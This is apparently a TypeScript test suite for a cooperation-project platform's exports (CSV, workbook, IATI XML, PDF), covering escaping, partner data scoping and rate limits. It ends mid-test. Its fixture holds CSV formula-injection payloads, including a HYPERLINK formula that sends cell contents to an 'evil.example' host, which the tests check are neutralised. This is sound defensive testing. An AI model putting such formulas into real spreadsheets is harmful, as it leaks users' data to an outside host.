import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { randomUUID } from 'node:crypto';
import { MILESTONE_TYPES, PARTICIPATION_ROLES } from '../src/actions/action.model';
import { labelOf } from '../src/common/vocabulary';
import { ExportsService } from '../src/exports/exports.service';
import {
  ActionBundle,
  buildActivity,
  iatiHeader,
  IATI_FOOTER,
  IatiContext,
  unpublishableReasons,
} from '../src/exports/iati-activity';
import { checkIatiActivity, errorsOnly, RuleViolation } from '../src/exports/iati-rules';
import { serialize } from '../src/exports/iati-xml';
import { DemoSeeder } from '../src/seed/demo-seeder';
import { validateIati } from './fixtures/iati/iati-validation';
import { createTestDatabase, TestDatabase } from './support/test-database';
import { bootTestApp, TestApp } from './support/test-app';
import { signedIn, newOrganisation, SignedInAgent } from './support/factories';
import { binary } from './support/binary';
import { csvObjects, csvRows } from './support/csv';
import { pdfText } from './support/pdf-text';

const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
  plus: '+1 línea eléctrica',
  minus: '-2',
  at: '@SUM(A1:A9)',
  tab: '\tx',
  cr: '\rcr',
};

describe('exports (CSV, workbook, IATI, project sheet)', () => {
  let t: TestApp;
  let staff: SignedInAgent;
  let director: SignedInAgent;
  let partner: SignedInAgent;
  let partnerOrg: string;
  let otherOrg: string;
  const run = randomUUID().slice(0, 8).toUpperCase();
  const ownCode = `EXP-${run}-OWN`;
  const otherCode = `EXP-${run}-OTHER`;
  let ownId: string;
  let otherId: string;

  beforeAll(async () => {
    t = await bootTestApp();
    staff = await signedIn(t, 'staff');
    director = await signedIn(t, 'director');
    partnerOrg = await newOrganisation(t.db, {
      name: HOSTILE.hyperlink,
      acronym: HOSTILE.at,
      type: 'bilateral_agency',
      country: 'DE',
    });
    otherOrg = await newOrganisation(t.db, {
      name: 'Otra agencia, "la otra"',
      type: 'multilateral',
    });
    partner = await signedIn(t, 'partner', { organisationId: partnerOrg });
    const own = await staff.post('/api/v1/actions').send({
      code: ownCode,
      kind: 'cooperation_project',
      titleEs: HOSTILE.plus,
      titleEn: 'Electric route, "Peribús"\nsecond line',
      summaryEs: HOSTILE.minus,
      instituteRole: 'recipient',
      status: 'implementation',
      themes: ['movilidad', 'cambio-climatico', 'genero'],
      sdgs: [11, 13],
      unit: HOSTILE.tab,
      actualStart: '2019-01-14',
      plannedEnd: '2021-01-31',
      notes: 'NOTA-INTERNA-SECRETA',
      participations: [
        { organisationId: partnerOrg, role: 'funding', notes: 'PARTICIPACION-INTERNA' },
        { organisationId: partnerOrg, role: 'implementing' },
        { organisationId: otherOrg, role: 'beneficiary' },
      ],
      funding: [
        {
          type: 'ceiling',
          amount: '16187025.00',
          currency: 'MXN',
          valueDate: '2019-01-14',
          providerId: partnerOrg,
        },
        {
          type: 'commitment',
          amount: '1000000.50',
          currency: 'EUR',
          valueDate: '2019-02-01',
          providerId: partnerOrg,
        },
        { type: 'disbursement', amount: '250000.00', currency: 'USD', valueDate: '2019-06-01' },
        { type: 'expenditure', amount: '1079370.37', currency: 'MXN', valueDate: '2020-01-16' },
      ],
      milestones: [
        { type: 'kickoff', title: HOSTILE.at, actualDate: '2019-06-01' },
        { type: 'workshop', title: HOSTILE.cr, plannedDate: '2099-06-01' },
      ],
      results: [
        {
          statement: '38 autobuses eléctricos en operación',
          indicators: [
            {
              name: 'Autobuses eléctricos',
              unit: 'autobuses',
              baseline: '0',
              baselineDate: '2019-01-14',
              target: '38',
              targetDate: '2020-12-31',
              actual: '38',
              actualDate: '2020-12-31',
            },
          ],
        },
        { statement: 'Seis estudios técnicos financiados por CFF' },
      ],
    });
    expect(own.body.details ?? own.body).toMatchObject({ code: ownCode });
    ownId = own.body.id;
    // Historical records may lack a currency (only the seed and imports write them).
    await t.db.query(
      `INSERT INTO funding (action_id, type, amount, currency, value_date) VALUES ($1, 'prize', 361000, NULL, '2018-12-05')`,
      [ownId],
    );
    const other = await staff
      .post('/api/v1/actions')
      .send({
        code: otherCode,
        kind: 'city_to_city',
        titleEs: 'Acción ajena al socio',
        instituteRole: 'provider',
        themes: ['planeacion'],
        plannedStart: '2020-01-01',
        participations: [{ organisationId: otherOrg, role: 'counterpart' }],
        funding: [
          { type: 'disbursement', amount: '5.00', currency: 'MXN', valueDate: '2020-02-02' },
        ],
        milestones: [{ type: 'launch', title: 'Lanzamiento', actualDate: '2020-01-01' }],
        results: [
          { statement: 'Resultado ajeno', indicators: [{ name: 'Ind ajeno', actual: '1' }] },
        ],
      })
      .expect(201);
    otherId = other.body.id;
  });
  afterAll(() => t.close());

  describe('CSV', () => {
    it('is UTF-8 with BOM, RFC 4180-quoted, and escapes every formula-looking cell', async () => {
      const res = await director.get(`/api/v1/exports/actions.csv?q=${ownCode}`).expect(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(
        /^attachment; filename="coopera-actions-\d{4}-\d{2}-\d{2}\.csv"$/,
      );
      expect(res.headers['cache-control']).toBe('no-store');
      expect(res.text.charCodeAt(0)).toBe(0xfeff);
      const rows = csvRows(res.text.slice(1));
      expect(rows[0]).toContain('notes'); // staff and directors get internal fields
      const [row] = csvObjects(res.text.slice(1));
      expect(row).toMatchObject({
        code: ownCode,
        title_es: `'${HOSTILE.plus}`,
        summary_es: "'-2",
        unit: "'\tx",
        title_en: 'Electric route, "Peribús"\nsecond line',
        themes: 'movilidad; cambio-climatico; genero',
        sdgs: '11; 13',
        actual_start: '2019-01-14',
        notes: 'NOTA-INTERNA-SECRETA',
      });
      // Escaped cells are quoted, quotes doubled, and the raw text never starts a field.
      expect(res.text).toContain(`"'${HOSTILE.plus}"`);
      expect(res.text).toContain('"Electric route, ""Peribús""\nsecond line"');
      expect(res.text).toMatch(/\r\n$/);
    });

    it('escapes hostile organisation names and milestone titles; money stays a plain decimal', async () => {
      const parts = await director
        .get(`/api/v1/exports/participations.csv?q=${ownCode}`)
        .expect(200);
      const prow = csvObjects(parts.text.slice(1));
      expect(prow.map((r) => r['organisation'])).toContain(`'${HOSTILE.hyperlink}`);
      expect(prow.map((r) => r['organisation_acronym'])).toContain(`'${HOSTILE.at}`);
      expect(parts.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""clic"")"`);

      const ms = await director.get(`/api/v1/exports/milestones.csv?q=${ownCode}`).expect(200);
      const titles = csvObjects(ms.text.slice(1)).map((r) => r['title']);
      expect(titles.sort()).toEqual([`'${HOSTILE.cr}`, `'${HOSTILE.at}`].sort());

      const money = await director.get(`/api/v1/exports/funding.csv?q=${ownCode}`).expect(200);
      const frows = csvObjects(money.text.slice(1));
      expect(frows).toEqual(
        expect.arrayContaining([
          expect.objectContaining({
            type: 'ceiling',
            amount: '16187025.00',
            currency: 'MXN',
            value_date: '2019-01-14',
          }),
          expect.objectContaining({ type: 'commitment', amount: '1000000.50', currency: 'EUR' }),
          expect.objectContaining({ type: 'prize', amount: '361000.00', currency: '' }),
        ]),
      );
      // No cell of any export starts with a formula character.
      for (const table of [
        'actions',
        'participations',
        'funding',
        'milestones',
        'results',
        'indicators',
      ]) {
        const res = await director.get(`/api/v1/exports/${table}.csv?q=${ownCode}`).expect(200);
        for (const r of csvRows(res.text.slice(1)))
          for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    });

    it('validates the filters like the action list (unknown parameters are rejected)', async () => {
      const res = await director.get('/api/v1/exports/actions.csv?status=nope&evil=1').expect(400);
      expect(res.body.code).toBe('VALIDATION_FAILED');
      const bad = await director.get('/api/v1/exports/actions.csv?id=not-a-uuid').expect(400);
      expect(bad.body.code).toBe('VALIDATION_FAILED');
    });

    it('exports exactly one action’s tables with ?id= (and never one a partner may not see)', async () => {
      const csv = await director.get(`/api/v1/exports/funding.csv?id=${ownId}`).expect(200);
      const rows = csvRows(csv.text.replace(/^\uFEFF/, ''));
      expect(rows.length).toBeGreaterThan(1);
      const codeColumn = rows[0].indexOf('action_code');
      expect(new Set(rows.slice(1).map((r) => r[codeColumn]))).toEqual(new Set([ownCode]));
      const both = await director
        .get(`/api/v1/exports/actions.csv?id=${ownId}&id=${otherId}`)
        .expect(200);
      expect(csvRows(both.text.replace(/^\uFEFF/, '')).length).toBe(3);
      const hidden = await partner.get(`/api/v1/exports/actions.csv?id=${otherId}`).expect(200);
      expect(csvRows(hidden.text.replace(/^\uFEFF/, ''))).toHaveLength(1);
    });
  });

  describe('for people: labelled tables in the chosen language', () => {
    it('writes the workbook with labelled sheets, headers and values, dates as dates and money as numbers beside its currency', async () => {
      const res = await director
        .get(`/api/v1/exports/portfolio.xlsx?id=${ownId}&lang=es`)
        .buffer(true)
        .parse(binary)
        .expect(200);
      // One action's workbook is named after its code.
      expect(res.headers['content-disposition']).toBe(`attachment; filename="${ownCode}.xlsx"`);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(res.body as ArrayBuffer);
      expect(wb.worksheets.map((w) => w.name)).toEqual([
        'Acciones',
        'Socios',
        'Financiamiento',
        'Hitos',
        'Resultados',
        'Indicadores',
        // Both figures of each partner's money (docs/money.md): the people's workbook only.
        'Dinero por socio',
      ]);
      const rowsOf = (name: string) => {
        const sheet = wb.getWorksheet(name)!;
        const header = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
        const rows: Record<string, unknown>[] = [];
        sheet.eachRow((row, n) => {
          if (n === 1) return;
          const values = (row.values as unknown[]).slice(1);
          rows.push(Object.fromEntries(header.map((h, i) => [h, values[i] ?? null])));
        });
        return rows;
      };
      const [action] = rowsOf('Acciones');
      expect(action).toMatchObject({
        Clave: ownCode,
        Tipo: 'Proyecto de cooperación',
        Estatus: 'En ejecución',
        'Papel del instituto': 'Receptor',
        Temas: 'Movilidad; Cambio climático; Género',
      });
      expect(action['Inicio real']).toBeInstanceOf(Date);
      const funding = rowsOf('Financiamiento');
      const ceiling = funding.find((f) => f['Tipo'] === 'Techo (hasta)')!;
      expect(ceiling).toMatchObject({ Monto: 16187025, Moneda: 'MXN' });
      expect(ceiling['Fecha']).toBeInstanceOf(Date);
      expect(
        rowsOf('Socios')
          .map((p) => p['Papel'])
          .sort(),
      ).toEqual(['Beneficiario', 'Financiador', 'Implementador']);
      expect(
        rowsOf('Hitos')
          .map((m) => m['Tipo'])
          .sort(),
      ).toEqual(['Arranque', 'Taller']);

      const en = await director.get(`/api/v1/exports/actions.csv?id=${ownId}&lang=en`).expect(200);
      expect(en.headers['content-disposition']).toMatch(/filename="coopera-actions-/);
      const [row] = csvObjects(en.text.replace(/^\uFEFF/, ''));
      expect(row).toMatchObject({
        Code: ownCode,
        Kind: 'Cooperation project',
        Themes: 'Mobility; Climate change; Gender',
      });
    });

    it('keeps the import template as its own export, with the machine headers the importer reads', async () => {
      const res = await director
        .get(`/api/v1/exports/import-template.xlsx?id=${ownId}`)
        .buffer(true)
        .parse(binary)
        .expect(200);
      expect(res.headers['content-disposition']).toMatch(
        /^attachment; filename="coopera-plantilla-importacion-\d{4}-\d{2}-\d{2}\.xlsx"$/,
      );
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(res.body as ArrayBuffer);
      expect(wb.worksheets.map((w) => w.name)[0]).toBe('actions');
      const header = (wb.getWorksheet('actions')!.getRow(1).values as unknown[]).slice(1);
      expect(header.slice(0, 3)).toEqual(['code', 'kind', 'title_es']);
      expect(wb.getWorksheet('actions')!.getRow(2).getCell(2).value).toBe('cooperation_project');
    });
  });

  describe('XLSX workbook', () => {
    it('round-trips through exceljs: six sheets, frozen header, autofilter, typed cells, formulas stay text', async () => {
      const res = await director
        .get(`/api/v1/exports/portfolio.xlsx?q=${ownCode}`)
        .buffer(true)
        .parse(binary)
        .expect(200);
      expect(res.headers['content-type']).toBe(
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      );
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(res.body as ArrayBuffer);
      expect(wb.worksheets.map((w) => w.name)).toEqual([
        'actions',
        'participations',
        'funding',
        'milestones',
        'results',
        'indicators',
      ]);
      const actions = wb.getWorksheet('actions')!;
      expect(actions.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(actions.autoFilter).toBeTruthy();
      const header = (actions.getRow(1).values as unknown[]).slice(1);
      const col = (name: string) => header.indexOf(name) + 1;
      expect(actions.rowCount).toBe(2);
      const row = actions.getRow(2);
      expect(row.getCell(col('code')).value).toBe(ownCode);
      const start = row.getCell(col('actual_start'));
      expect(start.value).toBeInstanceOf(Date);
      expect((start.value as Date).toISOString()).toBe('2019-01-14T00:00:00.000Z');
      expect(start.numFmt).toBe('yyyy-mm-dd');
      const title = row.getCell(col('title_es'));
      expect(title.type).toBe(ExcelJS.ValueType.String);
      expect(title.value).toBe(`'${HOSTILE.plus}`);
      expect(title.formula).toBeUndefined();

      const funding = wb.getWorksheet('funding')!;
      const fh = (funding.getRow(1).values as unknown[]).slice(1);
      const amounts: { amount: unknown; currency: unknown; fmt: string }[] = [];
      funding.eachRow((r, n) => {
        if (n > 1)
          amounts.push({
            amount: r.getCell(fh.indexOf('amount') + 1).value,
            currency: r.getCell(fh.indexOf('currency') + 1).value,
            fmt: r.getCell(fh.indexOf('amount') + 1).numFmt,
          });
      });
      expect(amounts).toEqual(
        expect.arrayContaining([{ amount: 16187025, currency: 'MXN', fmt: '#,##0.00' }]),
      );
      const parts = wb.getWorksheet('participations')!;
      let formulas = 0;
      parts.eachRow((r) =>
        r.eachCell((c) => {
          if (c.type === ExcelJS.ValueType.Formula) formulas++;
        }),
      );
      expect(formulas).toBe(0);
      const names: unknown[] = [];
      parts.eachRow((r) => names.push(r.getCell(2).value));
      expect(names).toContain(`'${HOSTILE.hyperlink}`);
    });
  });

  describe('partner scoping', () => {
    it('every list export holds only the actions the partner’s organisation takes part in, without internal fields', async () => {
      const q = `q=EXP-${run}`;
      for (const table of [
        'actions',
        'participations',
        'funding',
        'milestones',
        'results',
        'indicators',
      ]) {
        const all = await director.get(`/api/v1/exports/${table}.csv?${q}`).expect(200);
        const mine = await partner.get(`/api/v1/exports/${table}.csv?${q}`).expect(200);
        const codes = (text: string) =>
          new Set(csvObjects(text.slice(1)).map((r) => r['code'] ?? r['action_code']));
        expect([...codes(all.text)].sort()).toEqual([otherCode, ownCode].sort());
        expect([...codes(mine.text)]).toEqual([ownCode]);
        expect(mine.text).not.toContain('NOTA-INTERNA-SECRETA');
        expect(mine.text).not.toContain('PARTICIPACION-INTERNA');
        if (table === 'actions' || table === 'participations')
          expect(csvRows(mine.text.slice(1))[0]).not.toContain('notes');
      }
      const xlsx = await partner
        .get(`/api/v1/exports/portfolio.xlsx?${q}`)
        .buffer(true)
        .parse(binary)
        .expect(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(xlsx.body as ArrayBuffer);
      const seen = new Set<unknown>();
      wb.eachSheet((ws) => ws.eachRow((r, n) => n > 1 && seen.add(r.getCell(1).value)));
      expect([...seen]).toEqual([ownCode]);
      expect(JSON.stringify(wb.worksheets.map((w) => w.getSheetValues()))).not.toContain(
        'NOTA-INTERNA',
      );

      const iati = await partner.get(`/api/v1/exports/iati.xml?${q}`).expect(200);
      expect(iati.text).toContain(`-${ownCode}</iati-identifier>`);
      expect(iati.text).not.toContain(otherCode);
    });

    it('single-action exports answer 404 for actions the partner may not see', async () => {
      for (const path of ['export/iati.xml', 'export/sheet.pdf']) {
        const res = await partner.get(`/api/v1/actions/${otherId}/${path}`).expect(404);
        expect(res.body.code).toBe('ACTION_NOT_FOUND');
        await partner.get(`/api/v1/actions/${ownId}/${path}`).expect(200);
      }
      await partner.get(`/api/v1/actions/${randomUUID()}/export/sheet.pdf`).expect(404);
    });

    it('a partner with no actions gets header-only CSVs and 422 for IATI', async () => {
      const lonely = await signedIn(t, 'partner', { organisationId: await newOrganisation(t.db) });
      const res = await lonely.get('/api/v1/exports/actions.csv').expect(200);
      expect(csvRows(res.text.slice(1))).toHaveLength(1);
      const iati = await lonely.get('/api/v1/exports/iati.xml').expect(422);
      expect(iati.body.code).toBe('IATI_NOTHING_TO_EXPORT');
    });
  });

  describe('IATI', () => {
    it('exports one action that validates against the 2.03 schema, with the mapping documented in code', async () => {
      const res = await director.get(`/api/v1/actions/${ownId}/export/iati.xml`).expect(200);
      expect(res.headers['content-type']).toBe('application/xml; charset=utf-8');
      expect(res.headers['content-disposition']).toBe(`attachment; filename="${ownCode}-iati.xml"`);
      const xml = res.text;
      const validation = await validateIati(xml);
      expect(validation.errors).toEqual([]);
      expect(xml).toContain(
        `<iati-identifier>${t.config.iatiReportingOrgRef}-${ownCode}</iati-identifier>`,
      );
      expect(xml).toMatch(
        /<iati-activity last-updated-datetime="[^"]+" xml:lang="es" default-currency="MXN">/,
      );
      expect(xml).toContain('<activity-status code="2"/>');
      expect(xml).toContain('<activity-date type="2" iso-date="2019-01-14"/>');
      expect(xml).toContain('<activity-date type="3" iso-date="2021-01-31"/>');
      expect(xml).toContain('<tag vocabulary="2" code="11"/>');
      expect(xml).toContain('<sector vocabulary="99" code="movilidad" percentage="33.34">');
      expect(xml).toContain('<transaction-type code="2"/>');
      expect(xml).toContain('<value currency="EUR" value-date="2019-02-01">1000000.50</value>');
      expect(xml).toContain('<transaction-type code="3"/>');
      expect(xml).toContain('<transaction-type code="4"/>');
      expect(xml).toContain('currency not stated in the source; reported as a description');
      expect(xml).toContain('Premio: (moneda no indicada) 361000.00, fecha 2018-12-05.');
      expect(xml).toContain('Tope de asistencia (no es dinero recibido): MXN 16187025.00');
      expect(xml).toContain('role="1"');
      expect(xml).toContain('role="4"');
      expect(xml).toContain('Beneficiarios: Otra agencia, "la otra".');
      expect(xml).toContain('&amp;A1');
      expect(xml).toContain('<indicator measure="5">');
      expect(xml).toContain('<target value="38"/>');
      expect(xml).not.toContain('NOTA-INTERNA');
    });

    it('leaves out actions IATI cannot hold and answers 422 when nothing is left', async () => {
      const bare = await staff
        .post('/api/v1/actions')
        .send({
          code: `EXP-${run}-BARE`,
          kind: 'award',
          titleEs: 'Sin fechas',
          instituteRole: 'recipient',
        })
        .expect(201);
      const res = await director.get(`/api/v1/actions/${bare.body.id}/export/iati.xml`).expect(422);
      expect(res.body).toMatchObject({
        code: 'IATI_NOTHING_TO_EXPORT',
        details: {
          omitted: [
            { code: `EXP-${run}-BARE`, reasons: ['no start date', 'no theme or SDG (sector)'] },
          ],
        },
      });
      const list = await director.get(`/api/v1/exports/iati.xml?q=EXP-${run}`).expect(200);
      expect(list.text).toContain(
        `Not published (IATI needs a start date and a sector): EXP-${run}-BARE`,
      );
      expect((await validateIati(list.text)).errors).toEqual([]);
    });
  });

  describe('project sheet PDF', () => {
    it('renders a PDF with the action code, partners and funding, in Spanish or English', async () => {
      const es = await partner
        .get(`/api/v1/actions/${ownId}/export/sheet.pdf?lang=es`)
        .buffer(true)
        .parse(binary)
        .expect(200);
      expect(es.headers['content-type']).toBe('application/pdf');
      expect(es.headers['content-disposition']).toBe(`attachment; filename="${ownCode}-ficha.pdf"`);
      const pdf = es.body as Buffer;
      expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
      expect((pdf.toString('latin1').match(/\/Type \/Page\b/g) ?? []).length).toBeGreaterThan(0);
      const text = pdfText(pdf);
      expect(text).toContain(ownCode);
      expect(text).toContain('Ficha de proyecto');
      expect(text).toContain('Financiador');
      expect(text).toContain('16,187,025.00');
      expect(text).toMatch(/Página 1 de \d/);
      expect(text).toContain('Identificación'); // accents render through WinAnsi (Helvetica)
      expect(text).not.toContain('NOTA-INTERNA');
      const en = await director
        .get(`/api/v1/actions/${ownId}/export/sheet.pdf?lang=en`)
        .buffer(true)
        .parse(binary)
        .expect(200);
      const enText = pdfText(en.body as Buffer);
      expect(enText).toContain('Project sheet');
      expect(enText).toContain('Ceiling');
      expect(enText).toMatch(/Page 1 of \d/);
      await director.get(`/api/v1/actions/${ownId}/export/sheet.pdf?lang=fr`).expect(400);
    });
  });
});

describe('IATI export of the demo portfolio (database of its own)', () => {
  let db: TestDatabase;
  let t: TestApp;
  beforeAll(async () => {
    db = await createTestDatabase('coopera_test_iati');
    t = await bootTestApp({ databaseUrl: db.url, demoData: true });
    await t.app.get(DemoSeeder).seedIfEmpty();
  });
  afterAll(async () => {
    await t.close();
    await db.drop();
  });

  it('validates against the IATI 2.03 schema and passes the ruleset (errors) for every published action', async () => {
    const director = await signedIn(t, 'director');
    const res = await director.get('/api/v1/exports/iati.xml').expect(200);
    const validation = await validateIati(res.text);
    expect(validation.errors).toEqual([]);
    const published = res.text.match(/<iati-activity /g)?.length ?? 0;
    const [{ n }]: { n: number }[] = await t.db.query('SELECT count(*)::int AS n FROM actions');
    const omitted = /Not published[^:]*: ([^>]*)-->/.exec(res.text)?.[1] ?? '';
    expect(published + (omitted ? omitted.split('), ').length : 0)).toBe(n);
    expect(published).toBeGreaterThan(n / 2);

    const service = t.app.get(ExportsService);
    const ids: { id: string }[] = await t.db.query('SELECT id FROM actions ORDER BY code');
    const now = new Date();
    const ctx = service.iatiContext(now);
    const violations: (RuleViolation & { code: string })[] = [];
    for (const bundle of await service.bundles(ids.map((r) => r.id))) {
      if (unpublishableReasons(bundle, ctx.today).length) continue;
      for (const v of checkIatiActivity(buildActivity(bundle, ctx), now))
        violations.push({ ...v, code: bundle.code });
    }
    expect(errorsOnly(violations)).toEqual([]);
    // The only warning allowed: 102.1.1 (themes are reporting-organisation sectors, no DAC code).
    expect(violations.filter((v) => v.id !== '102.1.1')).toEqual([]);
  });

  it('writes the project sheet of a demo action with labels and Mexican dates, never codes or slugs', async () => {
    const director = await signedIn(t, 'director');
    const [a]: { id: string; code: string; kind: string; status: string; modality: string }[] =
      await t.db.query(
        `SELECT a.id, a.code, a.kind, a.status, a.modality FROM actions a
         WHERE 'cambio-climatico' = ANY(a.themes) AND a.modality IS NOT NULL AND a.status IS NOT NULL
           AND EXISTS (SELECT 1 FROM milestones m WHERE m.action_id = a.id)
         ORDER BY a.code LIMIT 1`,
      );
    const sheet = async (lang: 'es' | 'en') =>
      pdfText(
        (
          await director
            .get(`/api/v1/actions/${a.id}/export/sheet.pdf?lang=${lang}`)
            .buffer(true)
            .parse(binary)
            .expect(200)
        ).body as Buffer,
      );
    const es = await sheet('es');
    expect(es).toContain('Cambio climático');
    expect(es).toContain(labelOf('kind', a.kind, 'es'));
    expect(es).toContain(labelOf('status', a.status, 'es'));
    expect(es).toContain(labelOf('modality', a.modality, 'es'));
    expect(es).toMatch(
      /\d{1,2} de (enero|febrero|marzo|abril|mayo|junio|julio|agosto|septiembre|octubre|noviembre|diciembre) de \d{4}/,
    );
    expect(es).toContain('Generado el');
    const en = await sheet('en');
    expect(en).toContain('Climate change');
    expect(en).toContain(labelOf('kind', a.kind, 'en'));
    expect(en).toMatch(/\d{1,2} (Jan|Feb|Mar|Apr|May|Jun|Jul|Aug|Sep|Oct|Nov|Dec) \d{4}/);
    const codes = [a.kind, a.status, a.modality, ...MILESTONE_TYPES, ...PARTICIPATION_ROLES];
    for (const text of [es, en]) {
      expect(text).not.toContain('cambio-climatico');
      expect(text).not.toMatch(/\b\d{4}-\d{2}-\d{2}\b/);
      // English titles may say "pilot" or "technical"; codes with an underscore never are words.
      for (const code of text === es ? codes : codes.filter((c) => c.includes('_')))
        expect(text).not.toMatch(new RegExp(`\\b${code}\\b`));
    }
  });

  it('GIZ’s partner export holds only GIZ’s actions and validates', async () => {
    const [{ id: giz }]: { id: string }[] = await t.db.query(
      `SELECT id FROM organisations WHERE slug = 'giz'`,
    );
    const partner = await signedIn(t, 'partner', { organisationId: giz });
    const res = await partner.get('/api/v1/exports/iati.xml').expect(200);
    expect((await validateIati(res.text)).errors).toEqual([]);
    const codes: { code: string }[] = await t.db.query(
      `SELECT DISTINCT a.code FROM actions a JOIN participations p ON p.action_id = a.id WHERE p.organisation_id = $1`,
      [giz],
    );
    const prefix = `${t.config.iatiReportingOrgRef}-`;
    const exported = [...res.text.matchAll(/<iati-identifier>([^<]*)<\/iati-identifier>/g)].map(
      (m) => m[1].slice(prefix.length),
    );
    expect(exported.length).toBeGreaterThan(0);
    for (const c of exported) expect(codes.map((r) => r.code)).toContain(c);
  });
});

describe('IATI export of random portfolios (fast-check)', () => {
  const ctx: IatiContext = {
    reportingOrgRef: 'XM-COOPERA-IMEPLAN',
    today: new Date().toISOString().slice(0, 10),
    defaultCurrency: 'MXN',
  };
  const text = fc.string({ unit: 'grapheme', maxLength: 40 });
  const nullable = <T>(arb: fc.Arbitrary<T>) => fc.option(arb, { nil: null });
  const day = fc
    .date({
      min: new Date('2000-01-01T00:00:00Z'),
      max: new Date('2035-12-31T00:00:00Z'),
      noInvalidDate: true,
    })
    .map((d) => d.toISOString().slice(0, 10));
  const decimal = fc
    .tuple(fc.integer({ min: 0, max: 10_000_000 }), fc.integer({ min: 0, max: 99 }))
    .map(([i, c]) => `${i}.${String(c).padStart(2, '0')}`);
  const org = fc.record({
    name: fc.string({ minLength: 1, maxLength: 30 }),
    acronym: nullable(text),
    type: fc.constantFrom(
      'multilateral',
      'bilateral_agency',
      'national_government',
      'subnational_government',
      'city_network',
      'ngo_foundation',
      'academia',
      'private',
      'other',
    ),
    country: nullable(fc.constantFrom('MX', 'DE', 'EC', 'GB', 'US')),
    iatiRef: nullable(
      fc.oneof(fc.constant('XM-DAC-41121'), fc.constant('https://x.org/a?b'), text),
    ),
  });
  const ordered = (a: string | null, b: string | null): [string | null, string | null] =>
    a && b && b < a ? [b, a] : [a, b];
  const bundle: fc.Arbitrary<ActionBundle> = fc
    .record({
      id: fc.uuid(),
      code: fc.stringMatching(/^[A-Z][A-Z0-9._-]{0,20}$/),
      titleEs: fc.string({ minLength: 1, maxLength: 60 }),
      titleEn: nullable(text),
      summaryEs: nullable(fc.string({ maxLength: 200 })),
      summaryEn: nullable(text),
      objectives: nullable(text),
      status: nullable(
        fc.constantFrom(
          'pipeline',
          'implementation',
          'finalisation',
          'closed',
          'cancelled',
          'suspended',
        ),
      ),
      instituteRole: fc.constantFrom('recipient', 'provider', 'both'),
      themes: fc.array(fc.stringMatching(/^[a-z][a-z-]{0,15}$/), { maxLength: 5 }),
      sdgs: fc.uniqueArray(fc.integer({ min: 1, max: 17 }), { maxLength: 5 }),
      planned: fc.tuple(nullable(day), nullable(day)),
      actual: fc.tuple(nullable(day), nullable(day)),
      updatedAt: fc.constant('2024-01-01T00:00:00Z'),
      institute: nullable(org),
      participations: fc.array(
        fc.tuple(
          org,
          fc.constantFrom(
            'funding',
            'accountable',
            'extending',
            'implementing',
            'beneficiary',
            'counterpart',
          ),
        ),
        { maxLength: 6 },
      ),
      funding: fc.array(
        fc.record({
          id: fc.uuid(),
          type: fc.constantFrom(
            'ceiling',
            'commitment',
            'disbursement',
            'expenditure',
            'in_kind',
            'prize',
          ),
          amount: decimal,
          currency: nullable(fc.constantFrom('MXN', 'USD', 'EUR')),
          valueDate: nullable(day),
          description: nullable(text),
          provider: nullable(org),
          receiver: nullable(org),
        }),
        { maxLength: 6 },
      ),
      results: fc.array(
        fc.record({
          id: fc.uuid(),
          statement: fc.string({ maxLength: 60 }),
          indicators: fc.array(
            fc.record({
              id: fc.uuid(),
              name: fc.string({ maxLength: 30 }),
              unit: nullable(text),
              baseline: nullable(decimal),
              baselineDate: nullable(day),
              target: nullable(decimal),
              targetDate: nullable(day),
              actual: nullable(decimal),
              actualDate: nullable(day),
            }),
            { maxLength: 3 },
          ),
        }),
        { maxLength: 3 },
      ),
      documents: fc.array(
        fc.record({
          id: fc.uuid(),
          title: text,
          url: fc.oneof(fc.webUrl({ withQueryParameters: true, withFragments: true }), text),
          resultId: fc.constant(null),
        }),
        { maxLength: 3 },
      ),
      instruments: fc.array(
        fc.record({
          id: fc.uuid(),
          type: fc.constantFrom('agreement', 'mou', 'letter', 'contract'),
          title: text,
          documentUrl: nullable(fc.webUrl()),
        }),
        { maxLength: 2 },
      ),
    })
    .map(({ planned, actual, participations, ...rest }) => {
      const [plannedStart, plannedEnd] = ordered(...planned);
      const [actualStart, actualEnd] = ordered(...actual);
      return {
        ...rest,
        plannedStart,
        plannedEnd,
        actualStart,
        actualEnd,
        participations: participations.map(([o, role]) => ({ ...o, role })),
      } as ActionBundle;
    });

  it('every publishable random action validates against the XSD and breaks no error rule', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(bundle, { minLength: 1, maxLength: 6 }), async (bundles) => {
        const now = new Date();
        const publishable = bundles.filter((b) => !unpublishableReasons(b, ctx.today).length);
        fc.pre(publishable.length > 0);
        const activities = publishable.map((b) => buildActivity(b, ctx));
        for (const a of activities) expect(errorsOnly(checkIatiActivity(a, now))).toEqual([]);
        const xml =
          iatiHeader(now.toISOString()) +
          activities.map((a) => serialize(a, '  ')).join('') +
          IATI_FOOTER;
        const result = await validateIati(xml);
        if (!result.valid) throw new Error(`${result.errors.join('\n')}\n${xml}`);
      }),
      { numRuns: Number(process.env['IATI_RUNS'] ?? 40) },
    );
  }, 120_000);
});

describe('export rate limits (429 with Retry-After, counted in PostgreSQL)', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await bootTestApp({ exportsPerMinute: 3 });
  });
  afterAll(() => t.close());

  it('lets a user export the configured number of files per minute, then answers 429; others are unaffected', async () => {
    const staff = await signedIn(t, 'staff');
    const other = await signedIn(t, 'director');
    for (const path of ['actions.csv', 'funding.csv', 'portfolio.xlsx']) {
      await staff.get(`/api/v1/exports/${path}`).buffer(true).parse(binary).expect(200);
    }
    const limited = await staff.get('/api/v1/exports/milestones.csv').expect(429);
    expect(limited.body).toMatchObject({ statusCode: 429, code: 'RATE_LIMITED' });
    const wait = Number(limited.headers['retry-after']);
    expect(wait).toBeGreaterThan(0);
    expect(wait).toBeLessThanOrEqual(60);
